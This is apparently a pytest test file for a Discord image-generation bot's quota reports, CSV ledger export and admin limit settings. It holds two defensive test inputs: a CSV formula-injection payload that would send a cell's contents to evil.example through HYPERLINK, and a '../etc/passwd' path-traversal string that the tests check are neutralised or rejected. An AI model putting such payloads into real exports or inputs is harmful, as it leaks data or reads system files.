"""Reports and admin changes against a real (SQLite) ledger, at explicit moments in time."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from bot.config import QuotaSettings
from bot.db import Job, JobStatus
from bot.db.engine import Storage
from bot.db.models import GuildSettings, RoleLimit
from bot.jobs.store import admit
from bot.quotas import admin, counters
from bot.quotas.policy import MemberDailyLimit
from bot.quotas.reports import (
    CSV_COLUMNS,
    ledger_csv,
    ledger_rows,
    member_usage,
    overview,
    server_report,
    usd_decimal,
)

GUILD = 900_000_000_000_000_001
OTHER_GUILD = 900_000_000_000_000_002
NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
QUOTAS = QuotaSettings(
    images_per_day=20,
    images_per_month=100,
    spend_per_month_usd=2.0,
    member_images_per_day=5,
    max_images_per_day=50,
    max_images_per_month=500,
    max_spend_per_month_usd=10.0,
    max_member_images_per_day=8,
)


async def add_job(
    storage: Storage,
    *,
    at: datetime = NOW,
    user: int = 1,
    n: int = 1,
    status: JobStatus = JobStatus.DELIVERED,
    model: str = "dall-e-2",
    guild: int = GUILD,
    cost: int | None = None,
) -> Job:
    """A finished (or waiting) job as the runner leaves it in the ledger."""
    done = status in (JobStatus.DELIVERED, JobStatus.SUCCEEDED)
    waiting = status in (JobStatus.QUEUED, JobStatus.RUNNING)
    charged = n if done or waiting else 0
    job = Job(
        guild_id=guild,
        channel_id=5,
        user_id=user,
        operation="generate",
        command="imagine",
        model=model,
        prompt="p",
        size="1024x1024",
        n_requested=n,
        n_delivered=n if done else 0,
        n_charged=charged,
        cost_micro_usd=(cost if cost is not None else 20_000 * n) if charged else 0,
        status=status,
        error_code="provider.safety_rejected" if status is JobStatus.FAILED else None,
        queued_at=at,
        started_at=None if status is JobStatus.QUEUED else at + timedelta(seconds=1),
        finished_at=at + timedelta(seconds=5) if not waiting else None,
    )
    async with storage.sessions() as session, session.begin():
        session.add(job)
        await session.flush()
        # as the job store counts a row's charge: from nothing to what it is now
        await counters.settle(session, job, (0, 0))
    return job


# --- /usage me ---------------------------------------------------------------------------------


async def test_member_usage_counts_what_the_quota_counts(storage: Storage) -> None:
    await add_job(storage, n=2)
    await add_job(storage, n=3, status=JobStatus.FAILED)  # counts for nothing
    await add_job(storage, n=1, status=JobStatus.QUEUED)  # a reservation counts
    await add_job(storage, n=4, user=2)
    await add_job(storage, n=7, at=NOW - timedelta(days=1))  # yesterday: the month only
    await add_job(storage, n=9, guild=OTHER_GUILD)
    used = await member_usage(storage.sessions, QUOTAS, GUILD, 1, now=NOW)
    assert (used.member_used, used.member_limit, used.member_remaining) == (3, 5, 2)
    assert (used.guild_today, used.guild_day_remaining) == (7, 13)
    assert (used.guild_month, used.guild_month_remaining) == (14, 86)
    assert used.spend_month == 14 * 20_000
    assert used.spend_remaining == 2_000_000 - 280_000
    assert used.period.next_day == datetime(2026, 11, 22, tzinfo=UTC)
    assert used.period.next_month == datetime(2026, 12, 1, tzinfo=UTC)
    # The same numbers refuse a request: 2 left, 3 asked for.
    job = Job(
        guild_id=GUILD,
        channel_id=5,
        user_id=1,
        operation="generate",
        model="dall-e-2",
        n_requested=3,
        cost_micro_usd=60_000,
        status=JobStatus.QUEUED,
    )
    with pytest.raises(MemberDailyLimit) as info:
        await admit(storage.transactions, QUOTAS, job, now=NOW)
    assert info.value.params["remaining"] == used.member_remaining


async def test_member_usage_with_roles_and_a_reset(storage: Storage) -> None:
    async with storage.sessions() as session, session.begin():
        session.add(RoleLimit(guild_id=GUILD, role_id=10, images_per_day=8, exempt=False))
        session.add(RoleLimit(guild_id=GUILD, role_id=11, images_per_day=None, exempt=True))
    await add_job(storage, n=4, at=NOW - timedelta(hours=2))
    assert (await member_usage(storage.sessions, QUOTAS, GUILD, 1, [10], NOW)).member_limit == 8
    exempt = await member_usage(storage.sessions, QUOTAS, GUILD, 1, [10, 11], NOW)
    assert exempt.member_limit is None and exempt.member_remaining is None
    await admin.reset_member(storage.sessions, GUILD, 1, now=NOW - timedelta(hours=1))
    await add_job(storage, n=1, at=NOW - timedelta(minutes=30))
    used = await member_usage(storage.sessions, QUOTAS, GUILD, 1, now=NOW)
    assert (used.member_used, used.member_remaining, used.guild_today) == (1, 4, 5)


async def test_the_guild_time_zone_decides_when_today_ends(storage: Storage) -> None:
    await admin.apply_changes(
        storage.sessions, QUOTAS, GUILD, admin.LimitChanges(timezone="Asia/Seoul")
    )
    late = datetime(2026, 11, 21, 14, 30, tzinfo=UTC)  # 23:30 in Seoul
    await add_job(storage, n=2, at=late)
    used = await member_usage(storage.sessions, QUOTAS, GUILD, 1, now=late + timedelta(minutes=20))
    assert used.member_used == 2
    assert used.period.next_day == datetime(2026, 11, 21, 15, 0, tzinfo=UTC)  # Seoul midnight
    next_day = await member_usage(storage.sessions, QUOTAS, GUILD, 1, now=late + timedelta(hours=1))
    assert (next_day.member_used, next_day.guild_today, next_day.guild_month) == (0, 0, 2)
    # In UTC it would still be the same day.
    utc = await member_usage(storage.sessions, QUOTAS, OTHER_GUILD, 1, now=late)
    assert utc.period.next_day == datetime(2026, 11, 22, tzinfo=UTC)
    # The month too: Dec 1 00:30 in Seoul is still Nov 30 in UTC.
    december = datetime(2026, 11, 30, 15, 30, tzinfo=UTC)
    report = await server_report(storage.sessions, QUOTAS, GUILD, now=december)
    assert report.period.month_start == datetime(2026, 11, 30, 15, 0, tzinfo=UTC)
    assert report.images == 0


# --- /usage server ------------------------------------------------------------------------------


async def test_server_report_totals_outcomes_top_members_and_models(storage: Storage) -> None:
    await add_job(storage, user=1, n=2)
    await add_job(storage, user=1, n=1, model="gpt-image-1", cost=167_000)
    await add_job(storage, user=2, n=4, at=NOW - timedelta(days=3))
    await add_job(storage, user=3, n=1, status=JobStatus.FAILED)
    await add_job(storage, user=3, n=2, status=JobStatus.CANCELLED)
    await add_job(storage, user=3, n=1, status=JobStatus.INTERRUPTED)
    await add_job(storage, user=4, n=1, status=JobStatus.RUNNING)
    await add_job(storage, user=5, n=3, at=datetime(2026, 10, 31, 23, 0, tzinfo=UTC))  # October
    await add_job(storage, user=6, n=5, guild=OTHER_GUILD)
    report = await server_report(storage.sessions, QUOTAS, GUILD, now=NOW, top=3)
    assert report.jobs == 7
    assert report.outcomes == {
        "done": 3,
        "failed": 1,
        "cancelled": 1,
        "interrupted": 1,
        "pending": 1,
    }
    assert (report.images, report.pending_images, report.images_today) == (8, 1, 4)
    assert report.cost_micro == 40_000 + 167_000 + 80_000 + 20_000
    top = [(m.user_id, m.jobs, m.images, m.cost_micro) for m in report.top_members]
    assert top == [(2, 1, 4, 80_000), (1, 2, 3, 207_000), (4, 1, 1, 20_000)]
    models = [(m.model, m.jobs, m.images, m.cost_micro) for m in report.models]
    assert models == [("dall-e-2", 6, 7, 140_000), ("gpt-image-1", 1, 1, 167_000)]


async def test_an_empty_month(storage: Storage) -> None:
    report = await server_report(storage.sessions, QUOTAS, GUILD, now=NOW)
    assert (report.jobs, report.images, report.cost_micro) == (0, 0, 0)
    assert report.top_members == [] and report.models == []
    assert report.limits.images_per_month == 100


async def test_ledger_csv_one_row_per_job_of_the_period(storage: Storage) -> None:
    first = await add_job(storage, user=1, n=2, at=NOW - timedelta(hours=1))
    await add_job(storage, user=2, n=1, status=JobStatus.FAILED)
    await add_job(storage, user=3, n=1, at=datetime(2026, 10, 31, tzinfo=UTC))  # not this month
    report = await server_report(storage.sessions, QUOTAS, GUILD, now=NOW)
    jobs = await ledger_rows(storage.sessions, GUILD, report.period)
    rows = list(csv.reader(io.StringIO(ledger_csv(jobs))))
    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == 3
    record = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    assert record == {
        "job_id": str(first.id),
        "queued_at": "2026-11-21T11:00:00+00:00",
        "started_at": "2026-11-21T11:00:01+00:00",
        "finished_at": "2026-11-21T11:00:05+00:00",
        "guild_id": str(GUILD),
        "channel_id": "5",
        "member_id": "1",
        "command": "imagine",
        "model": "dall-e-2",
        "size": "1024x1024",
        "quality": "",
        "n_requested": "2",
        "n_delivered": "2",
        "input_tokens": "",
        "output_tokens": "",
        "cost_usd": "0.040000",
        "outcome": "delivered",
        "error_code": "",
        "possibly_billed": "",
    }
    failed = dict(zip(CSV_COLUMNS, rows[2], strict=True))
    assert (failed["outcome"], failed["error_code"], failed["cost_usd"]) == (
        "failed",
        "provider.safety_rejected",
        "0.000000",
    )


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
async def test_ledger_csv_cells_never_start_a_formula(storage: Storage, trigger: str) -> None:
    """The text cells come from outside the bot: the provider's answer (size, quality) and the
    operator's model names. A spreadsheet must show them as text, not run them."""
    formula = f'{trigger}HYPERLINK("https://evil.example/?"&A1,"open")'
    short = f'{trigger}HYPERLINK("x")'  # what fits the size and quality columns (16 characters)
    job = await add_job(storage, model=formula)
    async with storage.sessions() as session, session.begin():
        stored = await session.get(Job, job.id)
        assert stored is not None
        stored.size, stored.quality, stored.command = short, short, short
    report = await server_report(storage.sessions, QUOTAS, GUILD, now=NOW)
    rows = list(
        csv.reader(
            io.StringIO(ledger_csv(await ledger_rows(storage.sessions, GUILD, report.period)))
        )
    )
    record = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    assert record["model"] == "'" + formula
    for column in ("command", "size", "quality"):
        assert record[column] == "'" + short, column
    assert record["cost_usd"] == "0.020000" and record["member_id"] == "1"  # plain values stay
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


async def test_possibly_billed_requests_are_counted_as_spend_and_marked(storage: Storage) -> None:
    """Cut off mid-request: no images, the estimate is spend, and the report says so."""
    await add_job(storage, user=1, n=1)
    cut = await add_job(storage, user=2, n=2, status=JobStatus.INTERRUPTED)
    async with storage.sessions() as session, session.begin():
        row = await session.get(Job, cut.id)
        assert row is not None
        row.possibly_billed, row.cost_micro_usd = True, 40_000
    report = await server_report(storage.sessions, QUOTAS, GUILD, now=NOW)
    assert (report.images, report.cost_micro) == (1, 60_000)
    assert (report.possibly_billed_jobs, report.possibly_billed_micro) == (1, 40_000)
    jobs = await ledger_rows(storage.sessions, GUILD, report.period)
    rows = list(csv.DictReader(io.StringIO(ledger_csv(jobs))))
    assert [(r["cost_usd"], r["possibly_billed"]) for r in rows] == [
        ("0.020000", ""),
        ("0.040000", "yes"),
    ]


def test_usd_decimal_is_exact() -> None:
    assert usd_decimal(20_000) == "0.020000"
    assert usd_decimal(123_456_789) == "123.456789"
    assert usd_decimal(0) == "0.000000"


# --- admin changes ------------------------------------------------------------------------------


async def test_limits_are_stored_and_shown_with_their_origin(storage: Storage) -> None:
    view = await overview(storage.sessions, QUOTAS, GUILD, now=NOW)
    assert view.is_default("images_per_day") and view.limits.images_per_day == 20
    changes = admin.LimitChanges(
        images_per_day=50, spend_per_month_usd=2.5, member_images_per_day=0, timezone="utc"
    )
    await admin.apply_changes(storage.sessions, QUOTAS, GUILD, changes)
    view = await overview(storage.sessions, QUOTAS, GUILD, now=NOW)
    assert (view.limits.images_per_day, view.limits.spend_per_month_micro) == (50, 2_500_000)
    assert view.limits.member_images_per_day == 0 and view.limits.timezone == "UTC"
    assert not view.is_default("images_per_day") and view.is_default("images_per_month")
    async with storage.sessions() as session:
        row = await session.get(GuildSettings, GUILD)
        assert row is not None and row.lock_version >= 1  # written under the guild's lock


@pytest.mark.parametrize(
    ("changes", "error", "params"),
    [
        (admin.LimitChanges(images_per_day=51), admin.DayAboveCeiling, {"ceiling": "50"}),
        (admin.LimitChanges(images_per_month=501), admin.MonthAboveCeiling, {"value": "501"}),
        (
            admin.LimitChanges(spend_per_month_usd=10.01),
            admin.SpendAboveCeiling,
            {"ceiling": "$10.00", "value": "$10.01"},
        ),
        (admin.LimitChanges(member_images_per_day=9), admin.MemberAboveCeiling, {"value": "9"}),
        (admin.LimitChanges(images_per_day=-1), admin.NegativeLimit, {"value": "-1"}),
        (admin.LimitChanges(spend_per_month_usd=-0.5), admin.NegativeLimit, {"value": "-0.5"}),
        (admin.LimitChanges(timezone="Mars/Base"), admin.UnknownTimezone, {"name": "Mars/Base"}),
        (admin.LimitChanges(), admin.NothingToChange, {}),
    ],
)
async def test_bad_values_are_refused_before_anything_is_stored(
    storage: Storage, changes: admin.LimitChanges, error: type[Exception], params: dict[str, str]
) -> None:
    with pytest.raises(error) as info:
        await admin.apply_changes(storage.sessions, QUOTAS, GUILD, changes)
    assert params.items() <= info.value.params.items()  # type: ignore[attr-defined]
    async with storage.sessions() as session:
        assert await session.get(GuildSettings, GUILD) is None


def test_time_zone_names() -> None:
    assert admin.canonical_timezone("asia/seoul") == "Asia/Seoul"
    assert admin.canonical_timezone(" America/New York ") == "America/New_York"
    assert admin.canonical_timezone("UTC") == "UTC"
    assert admin.canonical_timezone("Mars/Base") is None
    assert admin.canonical_timezone("../etc/passwd") is None
    assert admin.timezone_suggestions("seoul") == ["Asia/Seoul"]
    assert admin.timezone_suggestions("Europe/")[:2] == ["Europe/Amsterdam", "Europe/Andorra"]
    assert len(admin.timezone_suggestions("")) == 25


async def test_role_rules(storage: Storage) -> None:
    sessions = storage.sessions
    rule = await admin.set_role_rule(sessions, QUOTAS, GUILD, 10, images_per_day=7)
    assert rule is not None and (rule.images_per_day, rule.exempt) == (7, False)
    rule = await admin.set_role_rule(sessions, QUOTAS, GUILD, 10, exempt=True)
    assert rule is not None and (rule.images_per_day, rule.exempt) == (7, True)
    with pytest.raises(admin.MemberAboveCeiling):
        await admin.set_role_rule(sessions, QUOTAS, GUILD, 11, images_per_day=9)
    with pytest.raises(admin.NothingToChange):
        await admin.set_role_rule(sessions, QUOTAS, GUILD, 11)
    assert await admin.set_role_rule(sessions, QUOTAS, GUILD, 12, exempt=False) is None
    assert [r.role_id for r in await admin.role_rules(sessions, GUILD)] == [10]
    assert await admin.remove_role_rule(sessions, GUILD, 10) is True
    assert await admin.remove_role_rule(sessions, GUILD, 10) is False
    assert await admin.role_rules(sessions, GUILD) == []


async def test_channels(storage: Storage) -> None:
    sessions = storage.sessions
    assert await admin.change_channels(sessions, GUILD, add=7) == (frozenset({7}), True)
    assert await admin.change_channels(sessions, GUILD, add=3) == (frozenset({3, 7}), True)
    assert await admin.change_channels(sessions, GUILD, remove=9) == (frozenset({3, 7}), False)
    assert await admin.change_channels(sessions, GUILD, remove=7) == (frozenset({3}), True)
    view = await overview(sessions, QUOTAS, GUILD)
    assert view.limits.allowed_channels == frozenset({3})
    assert await admin.change_channels(sessions, GUILD, clear=True) == (frozenset(), True)
    assert (await overview(sessions, QUOTAS, GUILD)).limits.allowed_channels == frozenset()
